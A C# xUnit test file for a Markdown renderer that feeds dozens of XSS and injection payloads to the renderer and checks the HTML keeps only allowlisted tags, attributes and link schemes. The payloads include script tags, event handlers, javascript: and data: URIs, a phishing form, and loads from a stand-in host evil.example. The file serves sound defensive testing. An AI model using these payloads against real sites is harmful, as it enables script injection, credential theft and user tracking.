using AngleSharp.Html.Parser;
using ModelRegistry.Web.Components.Shared;
using ModelRegistry.Web.Languages;

namespace ModelRegistry.Tests.Components;

/// <summary>Strangers' text is poison: whatever a card holds, nothing of it may run, load, or dress up our pages.</summary>
public sealed class MarkdownHostileTests
{
    private static readonly HashSet<string> Harmless = new(StringComparer.Ordinal)
    {
        "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "sub", "sup", "ul", "ol", "li",
        "blockquote", "code", "pre", "table", "thead", "tbody", "tr", "th", "td", "a", "span", "div", "input",
    };

    private static readonly HashSet<string> HarmlessAttributes = new(StringComparer.Ordinal)
    {
        "href", "rel", "target", "title", "align", "start", "type", "checked", "disabled", "aria-label",
    };

    private readonly MarkdownRenderer _renderer = new();
    private readonly Localizer _words = new(Catalogue.English);

    public static TheoryData<string> Poison() =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script/x>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=\"alert(1)\" />",
        "<img/src/onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\" />",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
        "<embed src=javascript:alert(1)>",
        "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<input type=checkbox onclick=alert(1) checked>",
        "<body onload=alert(1)>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>body{display:none}</style>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<div style=\"position:fixed;inset:0;background:url(https://evil.example)\">x</div>",
        "<p style=\"width:expression(alert(1))\">x</p>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=x onclick=alert(1)>x</a>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](  javascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;&#x61;vascript&colon;alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://evil.example/1)",
        "[x](//evil.example/same-scheme)",
        "[x](/account/sign-out)",
        "[x](https://ok.example \"a\\\" onmouseover=alert(1) b\")",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/pixel.png)",
        "![x\" onerror=\"alert(1)](https://evil.example/pixel.png)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "```html onload=alert(1) \"><script>alert(1)</script>\nx\n```",
        "`</code><script>alert(1)</script>`",
        "# x {onclick=alert(1)}",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "- [x] <img src=x onerror=alert(1)>",
        "---\ntitle: <script>alert(1)</script>\n---\n<script>alert(2)</script>",
        "https://evil.example/\"onmouseover=alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ];

    [Theory]
    [MemberData(nameof(Poison))]
    public void Hostile_RendersNothingExecutable(string markdown)
    {
        var html = _renderer.ToHtml(markdown, _words);

        var body = new HtmlParser().ParseDocument($"<body>{html}</body>").Body!;
        foreach (var element in body.QuerySelectorAll("*"))
        {
            Assert.True(Harmless.Contains(element.LocalName), $"<{element.LocalName}> in: {html}");
            foreach (var attribute in element.Attributes)
                Assert.True(HarmlessAttributes.Contains(attribute.Name), $"{attribute.Name} in: {html}");
            if (element.GetAttribute("href") is { } href)
                Assert.True(Uri.TryCreate(href, UriKind.Absolute, out var uri) && uri.Scheme is "http" or "https" or "mailto", $"{href} in: {html}");
            if (element.LocalName == "input")
                Assert.True(element.HasAttribute("disabled") && element.GetAttribute("type") == "checkbox", html);
        }
    }

    [Fact]
    public void VeryLong_IsCut()
    {
        var html = _renderer.ToHtml(new string('a', MarkdownRenderer.MaxLength * 2), _words);
        Assert.True(html.Length < MarkdownRenderer.MaxLength + 100, $"{html.Length} characters");
    }

    [Theory]
    [InlineData(">")]
    [InlineData("[")]
    [InlineData("*a ")]
    [InlineData("- ")]
    public void DeeplyNested_IsShownAsItIs(string bracket)
    {
        var html = _renderer.ToHtml(string.Concat(Enumerable.Repeat(bracket, 5000)) + "<b>deep</b>", _words);

        Assert.Contains("deep", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<b>", html, StringComparison.Ordinal);
    }
}
